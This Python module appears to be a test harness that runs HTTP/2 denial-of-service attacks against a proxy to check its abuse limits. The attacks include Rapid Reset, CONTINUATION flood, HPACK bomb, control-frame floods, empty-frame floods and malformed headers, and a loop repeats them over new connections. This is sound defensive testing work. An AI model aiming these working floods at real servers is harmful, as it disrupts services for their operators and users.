"""HTTP/2 attacks on a proxy listener, one per class of abuse the proxy defends against
(tether.proxy.core.abuse), with hyperframe and hpack only (h2raw). Each attack opens one connection, does
what an attacker would (with, where the protocol allows, a control: an honest client at the limit is
served), and returns an :class:`Outcome`: how the proxy ended the connection (GOAWAY code and debug data,
close), what the attacker sent, what the proxy provably accepted, the documented limit, and ``problem``:
how this differs from the documented behaviour (None when it does not).

The limits come from the proxy's own defaults (``ClientLimits()``; h2's CONTINUATION bound). An attack
sends exactly the limit, proves the proxy took it (``Session.probe``: a PING answered after them, see
there why two), then one frame (or byte) more, which must close the connection; against a token bucket
(rapid reset, PING and SETTINGS) it sends batches faster than the bucket refills until cut off, allowing
what the bucket refilled meanwhile. ``reconnecting`` repeats an attack, a new connection after every close.
Used by tests/netns/test_h2_attacks.py and bench/proxy/attack.py (so: no pytest here).
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
import math
import time
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass, field
from typing import Protocol

from h2.frame_buffer import CONTINUATION_BACKLOG
from h2raw import (
    ENHANCE_YOUR_CALM,
    PROTOCOL_ERROR,
    Header,
    RawH2Client,
    get,
    header_list,
)
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
)

from tether.proxy.core.abuse import (
    CONTINUATION_FLOOD,
    CONTROL_FLOOD,
    EMPTY_FRAMES,
    OVERSIZED_HEADERS,
    PRIORITY_FLOOD,
    RAPID_RESET,
    WINDOW_UPDATE_FLOOD,
    ClientLimits,
)

DEFAULTS = ClientLimits()
#: RFC 7541 §4.1: each header field counts its name, its value and 32 bytes.
FIELD_OVERHEAD = 32
#: How long the proxy may take to answer or close (it is local; this only bounds a hung attack).
ANSWER_TIMEOUT = 10.0


def list_size(headers: Sequence[Header]) -> int:
    """A header list's size as SETTINGS_MAX_HEADER_LIST_SIZE counts it."""
    return sum(len(name) + len(value) + FIELD_OVERHEAD for name, value in headers)


Connect = Callable[[], Awaitable[RawH2Client]]


@dataclass(frozen=True)
class Target:
    """A listener to attack: how to open a connection to it, and the :authority its requests carry."""

    label: str
    authority: str
    connect: Connect
    #: The :path of every request, when the application serves only some (nghttpd: a file); otherwise
    #: each attack names its own.
    path: str = ""

    def at(self, path: str) -> str:
        return self.path or path


class SocketSource(Protocol):
    """What opens a TCP socket from somewhere else (netns_harness.Namespace)."""

    def open_socket(self, host: str, port: int, timeout: float = 5.0) -> object: ...


def namespace_target(label: str, namespace: SocketSource, host: str, port: int, path: str = "") -> Target:
    """Connections opened from inside ``namespace`` to ``host:port`` (intercepted like an application's)."""

    async def connect() -> RawH2Client:
        loop = asyncio.get_running_loop()
        sock = await loop.run_in_executor(None, namespace.open_socket, host, port)
        return await RawH2Client.over(sock)  # type: ignore[arg-type]

    return Target(label, f"{host}:{port}", connect, path)


@dataclass
class Outcome:
    """What one attack connection got."""

    attack: str
    #: The proxy's GOAWAY, if it sent one: error code, debug data, last stream id.
    goaway_code: int | None = None
    goaway_debug: bytes = b""
    last_stream_id: int | None = None
    #: The proxy closed the connection (EOF or reset).
    closed: bool = False
    #: Offending frames (or bytes, for the CONTINUATION flood) sent in all.
    sent: int = 0
    #: Offending frames the proxy provably processed before it cut the connection off (None: not visible).
    accepted: int | None = None
    #: The documented limit: what the proxy must accept before cutting off.
    limit: int = 0
    #: What the limit's token bucket may have added while the attack ran (rate x seconds).
    slack: int = 0
    #: Statuses of requests answered on the connection (controls, and the 431).
    statuses: list[int] = field(default_factory=list)
    #: RST_STREAM error codes received.
    resets: list[int] = field(default_factory=list)
    #: Seconds from connecting to the close (or the end of the attack).
    seconds: float = 0.0
    #: Replies the proxy sent to the offending frames (PING and SETTINGS ACKs) before its GOAWAY.
    replies: int = 0
    #: Bytes of the offending frames on the wire (e.g. the HPACK bomb's size before decoding).
    wire_bytes: int = 0
    #: How this differs from the documented behaviour; None when it does not.
    problem: str | None = None

    @property
    def cut_off(self) -> bool:
        """Closed with GOAWAY ENHANCE_YOUR_CALM."""
        return self.closed and self.goaway_code == ENHANCE_YOUR_CALM


class Session:
    """One attacker connection. A reader task records everything the proxy sends until it closes; the
    attack writes what it likes meanwhile (a proxy socket that is read stays writable)."""

    def __init__(self, client: RawH2Client) -> None:
        self.client = client
        #: When the connection was opened (the attack sets it; the token buckets start full then).
        self.started = time.monotonic()
        self.goaway: GoAwayFrame | None = None
        self.closed = asyncio.Event()
        #: ACKs received before any GOAWAY.
        self.ping_acks = 0
        self.settings_acks = 0
        #: DATA frames with a payload (what the proxy counts as DATA frames sent).
        self.data_frames = 0
        self.statuses: dict[int, int] = {}
        self.ended: set[int] = set()
        self.resets: dict[int, int] = {}
        #: RST_STREAM frames received (a stream may be reset more than once, for frames sent after).
        self.reset_frames = 0
        self._probes = 0
        self._probe_acks: set[bytes] = set()
        self._changed = asyncio.Condition()
        self._reader = asyncio.create_task(self._read())

    async def _read(self) -> None:
        try:
            while True:
                try:
                    frame = await self.client.next_frame(3600.0)
                except AssertionError:  # an unparsable frame: treat as the end
                    frame = None
                if frame is None:
                    break
                self._record(frame)
                async with self._changed:
                    self._changed.notify_all()
        finally:
            self.closed.set()
            async with self._changed:
                self._changed.notify_all()

    def _record(self, frame: Frame) -> None:
        if isinstance(frame, GoAwayFrame):
            self.goaway = frame
            return
        if self.goaway is not None:
            return
        if isinstance(frame, PingFrame) and "ACK" in frame.flags:
            opaque = bytes(frame.opaque_data)
            if opaque.startswith(b"probe"):
                self._probe_acks.add(opaque)
            else:
                self.ping_acks += 1
        elif isinstance(frame, SettingsFrame) and "ACK" in frame.flags:
            self.settings_acks += 1
        elif isinstance(frame, HeadersFrame):
            if frame.stream_id not in self.statuses:
                for name, value in header_list(frame):
                    if name == b":status":
                        self.statuses[frame.stream_id] = int(value)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif isinstance(frame, DataFrame):
            if frame.data:
                self.data_frames += 1
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.stream_id] = int(frame.error_code)
            self.reset_frames += 1

    async def _until(self, predicate: Callable[[], bool], timeout: float) -> bool:
        """True once ``predicate`` holds; False if the connection closed first. TimeoutError otherwise."""
        async with asyncio.timeout(timeout), self._changed:
            await self._changed.wait_for(lambda: predicate() or self.closed.is_set())
        return predicate()

    #: Control frames (PINGs) one ``probe`` sends.
    PROBE_PINGS = 2

    async def probe(self, timeout: float = ANSWER_TIMEOUT) -> bool:
        """True proves that every frame sent before it was processed without a cut-off; False: the proxy
        closed the connection instead.

        Two PINGs, the second sent once the first is acknowledged. h2 acknowledges every PING of a read
        while parsing it, before the proxy's guard looks at the frames (and a guard that trips ignores the
        rest of the read, but those ACKs are already queued): the first ACK only says the read holding it
        was parsed. The second PING arrives in a later read, which the proxy feeds to h2 only if it did
        not cut the connection off meanwhile."""
        for _ in range(self.PROBE_PINGS):
            self._probes += 1
            opaque = b"probe%03d" % (self._probes % 1000)
            self.client.send(RawH2Client.ping(opaque))
            if not await self._until(functools.partial(self._probe_acks.__contains__, opaque), timeout):
                return False
        return self.goaway is None

    async def answered(self, stream_id: int, timeout: float = ANSWER_TIMEOUT) -> int | None:
        """The status of ``stream_id``'s response once it ended (None: reset, or the connection closed)."""
        ok = await self._until(lambda: stream_id in self.ended or stream_id in self.resets, timeout)
        return self.statuses.get(stream_id) if ok and stream_id in self.ended else None

    async def wait_closed(self, timeout: float = ANSWER_TIMEOUT) -> bool:
        """True once the proxy closed the connection; False if it is still open after ``timeout``."""
        try:
            async with asyncio.timeout(timeout):
                await self.closed.wait()
        except TimeoutError:
            return False
        return True

    async def stop(self) -> None:
        self._reader.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await self._reader
        await self.client.close()


class Attack:
    """One class of abuse. ``reason``: what the proxy counts it as (``proxy_h2_abuse_total{reason}``), None
    when it is not a cut-off; ``expected_code``: the GOAWAY's error code (None: the connection stays open);
    its debug data is the reason when the proxy's guard trips, empty when h2 itself refuses the frames
    (``reason_in_debug``)."""

    name = ""
    reason: str | None = None
    expected_code: int | None = ENHANCE_YOUR_CALM
    #: The reason is in the GOAWAY's debug data (the proxy's guard, not h2, cut the connection off).
    reason_in_debug = True
    #: Variants run in turn (``attempt`` picks one).
    variants = 1

    async def run(self, target: Target, limits: ClientLimits = DEFAULTS, attempt: int = 0) -> Outcome:
        """One connection: attack, wait for the proxy's verdict, close."""
        outcome = Outcome(self.name)
        started = time.monotonic()
        session: Session | None = None
        client: RawH2Client | None = None
        try:
            client = await target.connect()
            await client.handshake()
            session = Session(client)
            session.started = started
            await self.attack(session, target, limits, attempt, outcome)
        except (ConnectionError, OSError, TimeoutError) as exc:
            outcome.problem = outcome.problem or f"{type(exc).__name__}: {exc}"
        finally:
            if session is not None:
                outcome.closed = session.closed.is_set()
                goaway = session.goaway
                if goaway is not None:
                    outcome.goaway_code = int(goaway.error_code)
                    outcome.goaway_debug = bytes(goaway.additional_data)
                    outcome.last_stream_id = int(goaway.last_stream_id)
                outcome.statuses = [session.statuses[sid] for sid in sorted(session.statuses)]
                outcome.resets = list(session.resets.values())
                await session.stop()
            elif client is not None:
                await client.close()
            outcome.seconds = round(time.monotonic() - started, 4)
        if outcome.problem is None:
            outcome.problem = self.verdict(outcome)
        return outcome

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        raise NotImplementedError

    def verdict(self, outcome: Outcome) -> str | None:
        """What is wrong with how the connection ended (None: as documented)."""
        problem = self.ending_problem(outcome)
        if problem is not None:
            return problem
        if outcome.accepted is not None and outcome.accepted < outcome.limit:
            return f"cut off after {outcome.accepted} frames, before the limit of {outcome.limit}"
        if outcome.sent > outcome.limit + outcome.slack:
            return (
                f"closed only after {outcome.sent} frames, over the limit {outcome.limit} (+{outcome.slack})"
            )
        return None

    def ending_problem(self, outcome: Outcome) -> str | None:
        """What is wrong with the close itself: still open, another error code or debug data."""
        if not outcome.closed:
            return f"still open after {outcome.sent} offending frames (limit {outcome.limit})"
        if outcome.goaway_code != self.expected_code:
            return f"closed with GOAWAY {outcome.goaway_code}, expected {self.expected_code}"
        if self.expected_code == ENHANCE_YOUR_CALM:
            wanted = (self.reason or "").encode() if self.reason_in_debug else b""
            if outcome.goaway_debug != wanted:
                return f"GOAWAY debug data {outcome.goaway_debug!r}, expected {wanted!r}"
        return None


async def _closed_after(session: Session, outcome: Outcome) -> None:
    """The attack has sent one frame over the limit: the proxy must close now."""
    outcome.slack = max(outcome.slack, 1)
    if not await session.wait_closed():
        outcome.problem = (
            f"not cut off {ANSWER_TIMEOUT:g} s after {outcome.sent} frames (limit {outcome.limit})"
        )


async def _control(
    session: Session, frames: Sequence[Frame | bytes], stream_id: int, what: str
) -> str | None:
    """Send an honest request at the limit; why it was not answered 200, or None."""
    session.client.send(*frames)
    status = await session.answered(stream_id)
    if status != 200:
        reset = session.resets.get(stream_id)
        code = session.goaway.error_code if session.goaway is not None else None
        return f"{what} was not answered 200: status {status}, RST {reset}, GOAWAY {code}"
    return None


def _block_frames(stream_id: int, block: bytes, frame_size: int, *, end_stream: bool = True) -> list[Frame]:
    """A header block as HEADERS + CONTINUATION frames of at most ``frame_size`` bytes."""
    pieces = [block[i : i + frame_size] for i in range(0, len(block), frame_size)] or [b""]
    first = HeadersFrame(stream_id, data=pieces[0])
    if end_stream:
        first.flags.add("END_STREAM")
    frames: list[Frame] = [first]
    frames.extend(ContinuationFrame(stream_id, data=piece) for piece in pieces[1:])
    frames[-1].flags.add("END_HEADERS")
    return frames


def _max_frame_size(session: Session) -> int:
    return session.client.server_settings.get(SettingsFrame.MAX_FRAME_SIZE, 16_384)


# --- the attacks -------------------------------------------------------------------------------------------


async def _overshoot(
    session: Session,
    outcome: Outcome,
    frames: Callable[[int], list[Frame]],
    rate: float,
    since: float,
    *,
    probes_count: bool = False,
) -> None:
    """Past a token bucket's burst (proved to pass): batches of offending frames, each followed by a probe,
    until the proxy closes; each batch twice what the bucket refilled during the previous round, so the
    bucket runs dry. The probe before the last batch passed, so the cut-off came within that batch: what
    the bucket may have refilled since the burst was sent (``since``) plus that batch is the slack
    allowed over the limit. ``probes_count``: the probes' PINGs are offending frames too."""
    batch = max(2, math.ceil(0.2 * rate))
    for _ in range(100):
        round_started = time.monotonic()
        session.client.send(*frames(batch))
        outcome.sent += batch
        passed = await session.probe()
        if probes_count:
            outcome.sent += Session.PROBE_PINGS
        if not passed:
            break
        batch = max(batch, math.ceil(2 * rate * (time.monotonic() - round_started)))
    outcome.slack = math.ceil(rate * (time.monotonic() - since)) + 1 + batch
    if probes_count:
        outcome.slack += Session.PROBE_PINGS
    if not session.closed.is_set():
        await _closed_after(session, outcome)


class RapidReset(Attack):
    """CVE-2023-44487: streams opened and reset at once. A burst of ``reset_burst`` passes (a probe
    proves it); past it, resets sent faster than the bucket refills (``reset_rate``) are cut off."""

    name = "rapid_reset"
    reason = RAPID_RESET

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        request = get(target.authority, target.at("/reset"))

        def resets(count: int) -> list[Frame]:
            frames: list[Frame] = []
            for _ in range(count):
                stream_id = client.stream_id()
                frames += [client.headers(stream_id, request), client.rst(stream_id)]
            return frames

        outcome.limit = limits.reset_burst
        since = time.monotonic()
        client.send(*resets(limits.reset_burst))
        outcome.sent = limits.reset_burst
        if not await session.probe():
            outcome.problem = f"cut off by {limits.reset_burst} resets, the burst allowed"
            return
        outcome.accepted = limits.reset_burst
        await _overshoot(session, outcome, resets, limits.reset_rate, since)


class PingFlood(Attack):
    """PINGs, each answered. ``max_queued_control_replies`` control frames (the handshake's SETTINGS and
    ACK, the flood and the probe's PINGs) pass; past them, frames sent faster than ``control_frame_rate``
    are cut off. ``replies``: what the proxy answered before its GOAWAY."""

    name = "ping_flood"
    reason = CONTROL_FLOOD
    frame_name = "PING"

    def frame(self, n: int) -> Frame:
        return RawH2Client.ping(b"%08d" % n)

    def replies(self, session: Session) -> int:
        return session.ping_acks

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        handshake = 2  # the client's SETTINGS and its ACK of the proxy's
        since = session.started  # the handshake took tokens already
        outcome.limit = limits.max_queued_control_replies
        flood = outcome.limit - handshake - Session.PROBE_PINGS
        session.client.send(*(self.frame(n) for n in range(flood)))
        outcome.sent = handshake + flood + Session.PROBE_PINGS
        try:
            if not await session.probe():
                outcome.problem = f"cut off by {outcome.limit} control frames, the burst allowed"
                return
            outcome.accepted = outcome.limit
            await _overshoot(
                session,
                outcome,
                lambda count: [self.frame(n) for n in range(count)],
                limits.control_frame_rate,
                since,
                probes_count=True,
            )
        finally:
            outcome.replies = self.replies(session)


class SettingsFlood(PingFlood):
    """SETTINGS frames, each acknowledged: the same budget as PINGs."""

    name = "settings_flood"
    frame_name = "SETTINGS"

    def frame(self, n: int) -> Frame:
        return RawH2Client.settings(MAX_CONCURRENT_STREAMS=100 + n % 2)

    def replies(self, session: Session) -> int:
        return max(0, session.settings_acks - 1)  # less the ACK of the handshake's SETTINGS


class ControlFloodInOneWrite(PingFlood):
    """``multiple`` x ``max_queued_control_replies`` PINGs in one write: how many does the proxy answer
    before its GOAWAY? At most the burst (plus the refill) is documented."""

    name = "ping_flood_one_write"

    def __init__(self, multiple: int = 10) -> None:
        self.multiple = multiple

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        started = time.monotonic()
        outcome.limit = limits.max_queued_control_replies - 2
        count = self.multiple * limits.max_queued_control_replies
        session.client.send(*(self.frame(n) for n in range(count)))
        outcome.sent = count
        await _closed_after(session, outcome)
        outcome.replies = self.replies(session)
        outcome.slack = math.ceil(limits.control_frame_rate * (time.monotonic() - started)) + 1

    def verdict(self, outcome: Outcome) -> str | None:
        found = []
        if outcome.replies > outcome.limit + outcome.slack:
            found.append(
                f"{outcome.replies} of {outcome.sent} PINGs answered before the GOAWAY, "
                f"over the burst of {outcome.limit} (+{outcome.slack})"
            )
        ending = self.ending_problem(outcome)
        if ending is not None:
            found.append(ending)
        return "; ".join(found) or None


class ContinuationFlood(Attack):
    """CVE-2024-27316: a header block that never ends. Control: a GET whose header list is exactly
    ``max_header_list_size`` (one long field makes it up), its block spread over HEADERS and CONTINUATION
    frames, is answered. Attack: a block of ``max_header_list_size`` bytes without END_HEADERS, then one
    CONTINUATION with one byte more: cut off before the block is decoded (no block that long decodes to a
    header list within the limit: a literal field costs fewer bytes encoded than its 32-byte overhead)."""

    name = "continuation_flood"
    reason = CONTINUATION_FLOOD
    reason_in_debug = False

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        limit = limits.max_header_list_size
        frame_size = _max_frame_size(session)
        request = get(target.authority, target.at("/continuation-control"))
        pad_name = b"x-pad"
        pad = (pad_name, b"a" * (limit - list_size(request) - FIELD_OVERHEAD - len(pad_name)))
        block = client.encoder.encode([*request, pad], huffman=False)
        control = client.stream_id()
        outcome.problem = await _control(
            session, _block_frames(control, block, frame_size), control, f"a {len(block)}-byte header block"
        )
        if outcome.problem:
            return
        outcome.limit = limit
        stream_id = client.stream_id()
        first = HeadersFrame(
            stream_id, data=client.encoder.encode(get(target.authority, target.at("/continuation")))
        )
        frames: list[Frame] = [first]
        held = len(first.data)
        while held < limit:
            piece = min(frame_size, limit - held)
            frames.append(ContinuationFrame(stream_id, data=b"\0" * piece))
            held += piece
        frames.append(ContinuationFrame(stream_id, data=b"\0"))
        client.send(*frames)
        outcome.sent = held + 1
        outcome.wire_bytes = held + 1
        await _closed_after(session, outcome)


class EmptyContinuationFlood(Attack):
    """CONTINUATION frames without a byte in them: h2's own bound, ``CONTINUATION_BACKLOG`` frames in a
    header block (HEADERS included). Control: a GET split over that many frames is answered; attack: one
    more CONTINUATION is cut off."""

    name = "empty_continuation_flood"
    reason = CONTINUATION_FLOOD
    reason_in_debug = False

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        control = client.stream_id()
        frames: list[Frame] = [
            HeadersFrame(control, data=client.encoder.encode(get(target.authority, target.at("/empty-cont"))))
        ]
        frames[0].flags.add("END_STREAM")
        frames.extend(ContinuationFrame(control) for _ in range(CONTINUATION_BACKLOG - 1))
        frames[-1].flags.add("END_HEADERS")
        outcome.problem = await _control(session, frames, control, f"a block in {len(frames)} frames")
        if outcome.problem:
            return
        outcome.limit = CONTINUATION_BACKLOG - 1
        stream_id = client.stream_id()
        flood: list[Frame] = [
            HeadersFrame(
                stream_id, data=client.encoder.encode(get(target.authority, target.at("/empty-cont")))
            )
        ]
        flood.extend(ContinuationFrame(stream_id) for _ in range(CONTINUATION_BACKLOG))
        client.send(*flood)
        outcome.sent = CONTINUATION_BACKLOG
        await _closed_after(session, outcome)


class HpackBomb(Attack):
    """One 4,000-byte header in the HPACK dynamic table, then one-byte references to it, so a few KB on the
    wire decode to more than ``max_header_list_size``. Control: as many references as fit the limit are
    answered; attack: one more is cut off (h2's decoder stops at the limit)."""

    name = "hpack_bomb"
    reason = OVERSIZED_HEADERS
    reason_in_debug = False
    entry: Header = (b"x-bomb", b"a" * 4000)

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        fits = self._references(target, limits.max_header_list_size)
        control = client.stream_id()
        request = [*get(target.authority, target.at("/bomb")), *[self.entry] * fits]
        frames = _block_frames(
            control, client.encoder.encode(request, huffman=False), _max_frame_size(session)
        )
        outcome.problem = await _control(
            session, frames, control, f"{fits} references ({list_size(request)} B)"
        )
        if outcome.problem:
            return
        outcome.limit = fits
        stream_id = client.stream_id()
        bomb = [*get(target.authority, target.at("/bomb")), *[self.entry] * (fits + 1)]
        block = client.encoder.encode(bomb, huffman=False)
        client.send(*_block_frames(stream_id, block, _max_frame_size(session)))
        outcome.sent = fits + 1
        outcome.wire_bytes = len(block)
        await _closed_after(session, outcome)

    def _references(self, target: Target, limit: int) -> int:
        base = list_size(get(target.authority, target.at("/bomb")))
        return (limit - base) // list_size([self.entry])


class OversizedHeaders(Attack):
    """A header list over ``max_header_list_size`` without HPACK tricks: one long literal value (the block
    stays under the limit, as each field's 32 bytes of overhead are not on the wire; decoded, the list is
    one byte over it). Control: a list of exactly the limit is answered. The proxy must also advertise the
    limit (SETTINGS_MAX_HEADER_LIST_SIZE). Not Huffman-coded: hpack's pure-Python Huffman coder takes
    0.2 s for 64 KB, which would make the attacker, not the proxy, the bottleneck."""

    name = "oversized_headers"
    reason = OVERSIZED_HEADERS
    reason_in_debug = False

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        limit = limits.max_header_list_size
        advertised = client.server_settings.get(SettingsFrame.MAX_HEADER_LIST_SIZE)
        if advertised != limit:
            outcome.problem = f"SETTINGS_MAX_HEADER_LIST_SIZE is {advertised}, the limit is {limit}"
            return
        frame_size = _max_frame_size(session)
        control = client.stream_id()
        request = self._request(target, "/oversized-control", limit)
        frames = _block_frames(control, client.encoder.encode(request, huffman=False), frame_size)
        outcome.problem = await _control(session, frames, control, f"a {list_size(request)}-byte header list")
        if outcome.problem:
            return
        outcome.limit = limit
        stream_id = client.stream_id()
        request = self._request(target, "/oversized-attack", limit + 1)
        block = client.encoder.encode(request, huffman=False)
        client.send(*_block_frames(stream_id, block, frame_size))
        outcome.sent = list_size(request)
        outcome.wire_bytes = len(block)
        await _closed_after(session, outcome)

    @staticmethod
    def _request(target: Target, path: str, size: int) -> list[Header]:
        # Paths of one length, so both lists differ only in the filler.
        request = get(target.authority, target.at(path.ljust(20, "-")))
        name = b"x-filler"
        value = b"a" * (size - list_size(request) - len(name) - FIELD_OVERHEAD)
        return [*request, (name, value)]


class EmptyDataFlood(Attack):
    """DATA frames without payload or END_STREAM on an open stream. ``max_consecutive_empty_frames`` in a
    row are allowed, and a DATA frame with payload starts the count again (a PING answered proves both);
    one more in a row is cut off."""

    name = "empty_data_flood"
    reason = EMPTY_FRAMES

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        stream_id = client.stream_id()
        post = [(b":method", b"POST"), *get(target.authority, target.at("/empty"))[1:]]
        allowed = limits.max_consecutive_empty_frames
        empty = RawH2Client.data(stream_id, b"")
        client.send(
            client.headers(stream_id, post, end_stream=False),
            *[empty] * allowed,
            RawH2Client.data(stream_id, b"x"),
            *[empty] * allowed,
        )
        outcome.limit = allowed
        outcome.sent = allowed  # in a row
        if not await session.probe():
            outcome.accepted = 0
            outcome.problem = f"cut off by {2 * allowed} empty DATA frames, {allowed} in a row"
            return
        outcome.accepted = allowed
        client.send(empty)
        outcome.sent += 1
        await _closed_after(session, outcome)


class WindowUpdateFlood(Attack):
    """WINDOW_UPDATEs beyond Envoy's bound, ``1 + 2 x (streams + max_window_updates_per_data x DATA frames
    sent)``: one request is answered (the DATA frames received are counted), then exactly that many
    WINDOW_UPDATEs pass (a PING answered proves it) and one more is cut off."""

    name = "window_update_flood"
    reason = WINDOW_UPDATE_FLOOD

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        stream_id = client.stream_id()
        outcome.problem = await _control(
            session,
            [client.headers(stream_id, get(target.authority, target.at("/window")))],
            stream_id,
            "a GET",
        )
        if outcome.problem:
            return
        allowed = 1 + 2 * (1 + limits.max_window_updates_per_data * session.data_frames)
        outcome.limit = allowed
        update = RawH2Client.window_update(0, 1)
        client.send(*[update] * allowed)
        outcome.sent = allowed
        if not await session.probe():
            outcome.problem = f"cut off by {allowed} WINDOW_UPDATEs, the limit"
            return
        outcome.accepted = allowed
        client.send(update)
        outcome.sent += 1
        await _closed_after(session, outcome)


class PriorityFlood(Attack):
    """PRIORITY frames for a stream never opened: ``max_priority_per_stream`` for the connection itself
    pass (a PING answered proves it), one more is cut off."""

    name = "priority_flood"
    reason = PRIORITY_FLOOD

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        allowed = limits.max_priority_per_stream
        outcome.limit = allowed
        priority = PriorityFrame(1, depends_on=0, stream_weight=16)
        client.send(*[priority] * allowed)
        outcome.sent = allowed
        if not await session.probe():
            outcome.problem = f"cut off by {allowed} PRIORITY frames, the limit"
            return
        outcome.accepted = allowed
        client.send(priority)
        outcome.sent += 1
        await _closed_after(session, outcome)


class TooManyHeaders(Attack):
    """More than ``max_header_count`` header fields: answered 431, not a cut-off. A request with exactly
    that many is answered 200, one with one more 431, and the connection stays open (a PING answered,
    then another request at the limit answered 200)."""

    name = "too_many_headers"
    reason = None
    expected_code = None

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        limit = limits.max_header_count
        outcome.limit = limit
        for count in (limit, limit + 1, limit):
            request = get(target.authority, target.at("/fields"))
            request += [(b"x-field-%d" % n, b"v") for n in range(count - len(request))]
            stream_id = client.stream_id()
            client.send(client.headers(stream_id, request))
            status = await session.answered(stream_id)
            outcome.sent += 1 if count > limit else 0
            wanted = 431 if count > limit else 200
            if status != wanted:
                outcome.problem = f"{count} header fields answered {status}, expected {wanted}"
                return
        if not await session.probe():
            outcome.problem = "the connection closed after a 431"
        outcome.accepted = limit

    def verdict(self, outcome: Outcome) -> str | None:
        if outcome.closed or outcome.goaway_code is not None:
            return f"the connection was closed (GOAWAY {outcome.goaway_code}): a 431 is not a cut-off"
        if outcome.statuses != [200, 431, 200]:
            return f"statuses {outcome.statuses}, expected [200, 431, 200]"
        return None


class ResetStreamFlood(Attack):
    """Empty DATA frames on a stream the client itself reset (after its response started, so the reset is
    an ordinary cancellation). Every frame costs the proxy a parse and, from h2, an RST_STREAM in reply, like
    empty DATA on an open stream: ``max_consecutive_empty_frames`` may pass, one more must be cut off. A
    probe after that frame tells at once whether it was (a PING answered: it was not)."""

    name = "reset_stream_flood"
    reason = EMPTY_FRAMES

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        client = session.client
        stream_id = client.stream_id()
        post = [(b":method", b"POST"), *get(target.authority, target.at("/reset-stream"))[1:]]
        outcome.problem = await _control(
            session, [client.headers(stream_id, post, end_stream=False)], stream_id, "a POST"
        )
        if outcome.problem:
            return
        client.send(client.rst(stream_id))
        allowed = limits.max_consecutive_empty_frames
        outcome.limit = allowed
        empty = RawH2Client.data(stream_id, b"")
        client.send(*[empty] * allowed)
        outcome.sent = allowed
        if not await session.probe():
            outcome.problem = f"cut off by {allowed} empty DATA frames, the limit"
            return
        outcome.accepted = allowed
        client.send(empty)
        outcome.sent += 1
        await _closed_after(session, outcome)
        outcome.replies = session.reset_frames


#: Malformed requests (RFC 9113 §8.3.1): each is a connection error PROTOCOL_ERROR from the proxy.
INVALID_PSEUDO_HEADERS: tuple[tuple[str, Callable[[str], list[Header]]], ...] = (
    ("unknown pseudo-header", lambda a: [*get(a), (b":foo", b"bar")]),
    ("no :scheme", lambda a: [(b":method", b"GET"), (b":path", b"/"), (b":authority", a.encode())]),
    ("no :path", lambda a: [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", a.encode())]),
    (
        "empty :path",
        lambda a: [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b""), (b":authority", a.encode())],
    ),
    ("pseudo-header after a regular one", lambda a: [(b"x-first", b"1"), *get(a)]),
    ("duplicated :path", lambda a: [*get(a), (b":path", b"/again")]),
    (":status in a request", lambda a: [*get(a), (b":status", b"200")]),
)


class InvalidPseudoHeaders(Attack):
    """A request with a malformed pseudo-header section (``INVALID_PSEUDO_HEADERS``, one per attempt):
    GOAWAY PROTOCOL_ERROR, connection closed; not counted as abuse."""

    name = "invalid_pseudo_headers"
    reason = None
    expected_code = PROTOCOL_ERROR
    variants = len(INVALID_PSEUDO_HEADERS)

    async def attack(
        self, session: Session, target: Target, limits: ClientLimits, attempt: int, outcome: Outcome
    ) -> None:
        label, build = INVALID_PSEUDO_HEADERS[attempt % self.variants]
        outcome.attack = f"{self.name}: {label}"
        client = session.client
        client.send(client.headers(client.stream_id(), build(target.authority)))
        outcome.sent = 1
        await _closed_after(session, outcome)


ATTACKS: tuple[Attack, ...] = (
    RapidReset(),
    PingFlood(),
    SettingsFlood(),
    ContinuationFlood(),
    EmptyContinuationFlood(),
    HpackBomb(),
    OversizedHeaders(),
    EmptyDataFlood(),
    WindowUpdateFlood(),
    PriorityFlood(),
    TooManyHeaders(),
    InvalidPseudoHeaders(),
)
#: Attacks past what the classes above cover (tests/netns/test_h2_attacks.py runs them on their own).
FURTHER_ATTACKS: tuple[Attack, ...] = (ControlFloodInOneWrite(), ResetStreamFlood())
BY_NAME = {attack.name: attack for attack in (*ATTACKS, *FURTHER_ATTACKS)}


async def reconnecting(
    attack: Attack,
    target: Target,
    duration: float,
    limits: ClientLimits = DEFAULTS,
    stop: asyncio.Event | None = None,
) -> list[Outcome]:
    """Run ``attack`` again and again, a new connection after every close, for ``duration`` seconds (or
    until ``stop`` is set); the connection under way when time is up is finished, so every connection
    the proxy saw has its outcome."""
    outcomes: list[Outcome] = []
    deadline = time.monotonic() + duration
    while time.monotonic() < deadline and not (stop is not None and stop.is_set()):
        outcomes.append(await attack.run(target, limits, len(outcomes)))
    return outcomes


